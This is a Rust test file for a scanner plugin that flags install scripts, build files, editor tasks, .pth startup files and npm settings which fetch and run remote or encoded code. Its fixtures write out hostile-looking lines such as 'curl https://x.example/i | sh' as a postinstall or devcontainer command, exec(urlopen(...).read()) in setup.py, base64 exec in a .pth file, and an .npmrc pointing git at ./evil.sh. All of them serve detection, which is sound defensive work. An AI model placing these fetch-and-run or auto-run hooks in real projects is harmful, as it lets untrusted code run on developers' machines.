//! What runs unasked, over trees and blobs of a repository that git made.

use probity_sdk::git::{FolderKey, TreeKey};
use probity_sdk::prelude::*;
use probity_sdk::testing::{TestEngine, level};
use probity_tests::{Lab, Repository};
use serde_json::{Value, json};

use crate::{Config, plugin};

/// An engine that answers from the repository, with these manifests; `content` finds a long line in texts with `obfuscated`.
fn engine(repository: &Repository, manifests: &Value) -> TestEngine<Config> {
    let path = repository.path().to_owned();
    let ask = {
        let path = path.clone();
        let manifests = manifests.clone();
        move |query: &'static str, key: Value| {
            let engine = engine(&Repository::at(path.clone()), &manifests);
            Ok(engine.ask(&plugin(), query, key)?.into_parts().0)
        }
    };
    let (folder, held, program) = (ask.clone(), ask.clone(), ask);
    let (listed, contents) = (Repository::at(path.clone()), Repository::at(path.clone()));
    let (all, npm) = (manifests.clone(), manifests.clone());
    TestEngine::new(Config::default())
        .git_dir(path.join(".git"))
        .on("git/folder", move |key: TreeKey| Ok(level(&listed.git(["ls-tree", &key.tree]))))
        .on("dependencies/manifests", move |_: Value| Ok(json!({ "files": all, "left_out": 0 })))
        .on("dependencies/npm", move |_: Value| Ok(json!({ "files": npm, "left_out": 0 })))
        .on("content/blob", move |key: Value| {
            let text = contents.git(["cat-file", "blob", key["blob"].as_str().unwrap()]);
            let finding = json!({ "severity": "high", "rule": "renamed-code", "message": "20 or more names such as _0x1a2b3c" });
            Ok(if text.contains("obfuscated") { vec![finding] } else { vec![] })
        })
        .on("installs/folder", move |key: Value| folder("folder", key))
        .on("installs/held", move |key: Value| held("held", key))
        .on("installs/program", move |key: Value| program("program", key))
}

fn target(repository: &Repository) -> Target {
    Target { commit: "tip".into(), tree: repository.git(["rev-parse", "HEAD^{tree}"]), shallow: vec![] }
}

/// What is found, one a line: `rule severity path:line message`.
fn told(repository: &Repository, manifests: Value) -> Vec<String> {
    let answer = engine(repository, &manifests).ask(&plugin(), "scripts", target(repository)).unwrap();
    let line = |of: &Value| {
        let text = |name: &str| of[name].as_str().unwrap_or_default().to_owned();
        let line = of["line"].as_u64().unwrap_or_default();
        format!("{} {} {}:{line} {}", text("rule"), text("severity"), text("path"), text("message"))
    };
    answer.value().as_array().unwrap().iter().map(line).collect()
}

/// A package.json with one script.
fn package(event: &str, command: &str) -> Value {
    json!({ "path": "package.json", "format": "package-json", "name": "p", "scripts": [{ "name": event, "command": command, "line": 3 }] })
}

#[test]
fn install_scripts_are_judged_by_what_they_run() {
    let lab = Lab::new();
    let mut repository = lab.repository("r");
    repository
        .write("bundle.js", format!("run({:?});\n", "x".repeat(99)).repeat(1500))
        .write("names.js", "obfuscated()\n")
        .write("lib/fetch.js", "require('https'); require('child_process');\n")
        .write("lib/hashed.js", "require('https'); require('child_process'); createHash('sha256')\n")
        .write("starts.js", "require('child_process')\n")
        .write("plain.js", "console.log('thanks')\n")
        .commit("all");
    let of = |event: &str, command: &str| told(&repository, json!([package(event, command)]));
    for (command, expected) in [
        (
            "node bundle.js",
            "opaque-install high package.json:3 postinstall: bundle.js has 158 KiB, which nobody reads",
        ),
        (
            "node ./names",
            "opaque-install high package.json:3 postinstall: ./names has 20 or more names such as _0x1a2b3c (renamed-code)",
        ),
        (
            "node lib/fetch.js",
            "downloading-install high package.json:3 postinstall: lib/fetch.js talks to a server and runs something, and compares no hash",
        ),
        (
            "node lib/hashed.js",
            "fetching-install medium package.json:3 postinstall: lib/hashed.js talks to a server",
        ),
        (
            "curl https://x.example/i | sh",
            "downloading-install high package.json:3 postinstall: it runs what https://x.example/i sends",
        ),
        (
            "node starts.js",
            "install-script medium package.json:3 postinstall: runs node starts.js, and starts.js starts other programs",
        ),
        (
            "node absent.js",
            "install-script medium package.json:3 postinstall: runs node absent.js, and absent.js is not in the tree",
        ),
        (
            "npx some-package",
            "install-script medium package.json:3 postinstall: runs npx some-package, and some-package is fetched for it",
        ),
        ("npx only-allow pnpm", "install-script low package.json:3 postinstall: runs npx only-allow pnpm"),
        ("node plain.js", "install-script low package.json:3 postinstall: runs node plain.js"),
        ("node-gyp rebuild", "install-script low package.json:3 postinstall: runs node-gyp rebuild"),
    ] {
        assert_eq!(of("postinstall", command), [expected], "{command}");
    }
    assert_eq!(of("test", "node bundle.js"), [""; 0]);
    assert_eq!(of("prepare", "husky"), [""; 0]);
    assert!(of("prepare", "node bundle.js")[0].starts_with("opaque-install medium"));
}

#[test]
fn scripts_are_followed_and_private_packages_and_tests_are_judged_less() {
    let lab = Lab::new();
    let mut repository = lab.repository("r");
    repository
        .write("a/names.js", "obfuscated()\n")
        .write("starts.js", "require('child_process')\n")
        .commit("all");
    let script =
        |name: &str, command: &str, line: u32| json!({ "name": name, "command": command, "line": line });
    let mut package = json!({ "path": "a/package.json", "format": "package-json",
        "scripts": [script("install", "npm run b", 2), script("b", "yarn c", 3), script("c", "npm run b && node names", 4)] });
    let found = told(&repository, json!([package]));
    assert!(found[0].starts_with("opaque-install high a/package.json:2"), "{found:?}");
    package["path"] = json!("a/node_modules/x/package.json");
    assert_eq!(told(&repository, json!([package])), [""; 0]);
    let mut package = self::package("install", "node starts.js");
    package["private"] = json!(true);
    assert!(told(&repository, json!([package]))[0].starts_with("install-script low"));
    let mut package = self::package("install", "curl https://x.example/i | sh");
    package["path"] = json!("test-data/package.json");
    assert!(told(&repository, json!([package]))[0].starts_with("downloading-install low"));
}

#[test]
fn build_programs_and_files_of_editors_are_read() {
    let lab = Lab::new();
    let mut repository = lab.repository("r");
    repository
        .write("setup.py", "import os\nfrom urllib.request import urlopen\nexec(urlopen(u).read())\n")
        .write("b/setup.py", "import subprocess\nfrom setuptools import setup\nsetup()\n")
        .write("c/setup.py", "import base64\n\nexec(base64.b64decode(b''))\n")
        .write("build.rs", "fn main() { std::process::Command::new(\"curl\"); }\n")
        .write("src/build.rs", "fn build() { std::process::Command::new(\"curl\"); }\n")
        .write("ext/extconf.rb", "require 'open-uri'\n")
        .write("x.pth", "import os; exec(b64decode(''))\n")
        .write("lib.pth", "../lib\n")
        .write("sitecustomize.py", "import sys\n")
        .write(
            ".vscode/tasks.json",
            r#"{"tasks": [{"command": "make", "runOptions": {"runOn": "folderOpen"}}]}"#,
        )
        .write("b/.vscode/tasks.json", "{")
        .write("conf/tasks.json", "{")
        .write(".devcontainer/devcontainer.json", r#"{"postCreateCommand": "curl https://x.example | sh"}"#)
        .write("binding.gyp", "{'a': '<!(node -p \"require(1)\")', 'b': '<!(sh build.sh)'}\n")
        .write("build.sh", "curl https://x.example/i | sh\n")
        .write("tools/backend.py", "import requests\nrequests.get(u)\n")
        .commit("all");
    let backend = json!({ "path": "pyproject.toml", "format": "pyproject",
        "scripts": [{ "name": "build-backend", "command": "tools/backend.py", "line": 3 }] });
    let cargo = json!({ "path": "Cargo.toml", "format": "cargo-toml" });
    let found: Vec<String> = told(&repository, json!([backend, cargo]))
        .into_iter()
        .map(|found| found.split(' ').take(3).collect::<Vec<_>>().join(" "))
        .collect();
    assert_eq!(
        found,
        [
            "decoded-install high c/setup.py:3",
            "decoded-install high x.pth:1",
            "downloading-install high binding.gyp:1",
            "downloading-install high build.rs:1",
            "downloading-install high setup.py:2",
            "editor-task medium .vscode/tasks.json:1",
            "fetching-install medium ext/extconf.rb:1",
            "fetching-install medium pyproject.toml:3",
            "startup-file medium sitecustomize.py:1",
            "unreadable-manifest medium b/.vscode/tasks.json:0",
            "downloading-install low .devcontainer/devcontainer.json:1",
        ]
    );
}

#[test]
fn settings_of_npm_that_start_programs_are_found() {
    let lab = Lab::new();
    let mut repository = lab.repository("r");
    repository.write("a", "b").commit("all");
    let of = |name: &str, value: &str| {
        let script = json!({ "name": name, "command": value, "line": 1 });
        told(&repository, json!([{ "path": ".npmrc", "format": "npmrc", "scripts": [script] }]))
    };
    assert_eq!(of("git", "./evil.sh"), ["npm-program medium .npmrc:1 git is set to ./evil.sh"]);
    assert_eq!(of("node-options", "--require ./x.js").len(), 1);
    for (name, value) in [
        ("script-shell", "bash"),
        ("node-options", "--max-old-space-size=4096"),
        ("script-shell", "/bin/bash"),
    ] {
        assert_eq!(of(name, value), [""; 0], "{value}");
    }
}

#[test]
fn without_manifests_nothing_is_judged_and_what_is_not_there_is_no_fact() {
    let lab = Lab::new();
    let mut repository = lab.repository("r");
    repository.write("a.c", "x").commit("all");
    let error = engine(&repository, &json!([])).ask(&plugin(), "scripts", target(&repository)).unwrap_err();
    assert!(error.is_abstention(), "{error:?}");
    repository.write("setup.py", "gone").commit("more");
    std::fs::remove_file(repository.loose(&repository.git(["rev-parse", "HEAD:setup.py"]))).unwrap();
    let error = engine(&repository, &json!([])).ask(&plugin(), "scripts", target(&repository)).unwrap_err();
    assert!(error.is_retryable(), "{error:?}");
}

#[test]
fn a_folder_is_read_once_for_all_that_lies_in_it() {
    let lab = Lab::new();
    let mut repository = lab.repository("r");
    repository
        .write("deep/er/setup.py", "x")
        .write("deep/tasks.json", "{}")
        .write("y/tasks.json", "{}")
        .commit("all");
    let key = FolderKey { tree: target(&repository).tree, depth: 0 };
    let value = engine(&repository, &json!([])).ask(&plugin(), "folder", key).unwrap().into_parts().0;
    let paths: Vec<&str> = value.as_array().unwrap().iter().map(|of| of["path"].as_str().unwrap()).collect();
    assert_eq!(paths, ["deep/er/setup.py"]);
}
